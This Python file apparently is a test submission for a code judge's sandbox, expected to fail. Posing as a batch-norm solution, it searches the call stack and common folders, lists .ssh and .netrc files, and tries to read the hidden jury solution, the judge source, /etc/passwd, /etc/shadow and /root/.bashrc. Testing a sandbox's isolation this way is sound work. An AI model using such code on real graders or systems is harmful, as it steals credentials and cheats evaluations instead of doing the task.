"""Searches every folder it can think of for the jury solution, the hidden cases and the judge, and prints what it finds.

Expected: wrong answer, run-time error
"""

import glob
import inspect
import os
import sys

done = False


def my_batch_norm(x, gamma, beta, running_mean, running_var, eps=1e-5, momentum=0.1, training=True):
    global done
    if not done:
        done = True
        frame, judges = sys._getframe(1), set()
        while frame is not None:
            if os.path.basename(frame.f_code.co_filename) in ("worker.py", "warm.py"):
                judges.add(os.path.dirname(os.path.dirname(frame.f_code.co_filename)))
            frame = frame.f_back
        homes = ["/root", "/home", "/content", "/work", "/tmp", os.getcwd(), *judges]
        for folder in homes:
            for pattern in ("*", "problems/*/*.py", "torch_judge/*.py", ".ssh/*", ".netrc"):
                for path in glob.glob(os.path.join(folder or ".", pattern))[:50]:
                    if "batchnorm" in path or "torch_judge" in path or folder in ("/root", "/home"):
                        print("LEAKED: listed", path)
        secrets = [
            os.path.join(each, path)
            for each in judges
            for path in ("problems/batchnorm/solution.py", "torch_judge/judging/judge.py")
        ]
        for path in (*secrets, "/etc/passwd", "/etc/shadow", "/root/.bashrc"):
            try:
                print("LEAKED:", path, open(path).read(100))
            except OSError as error:
                print(type(error).__name__, end=" ")
        frame = sys._getframe(1)
        while frame is not None:
            try:
                print("LEAKED: source of", frame.f_code.co_filename, inspect.getsource(frame.f_code)[:60])
            except (OSError, TypeError):
                pass
            frame = frame.f_back
    return x
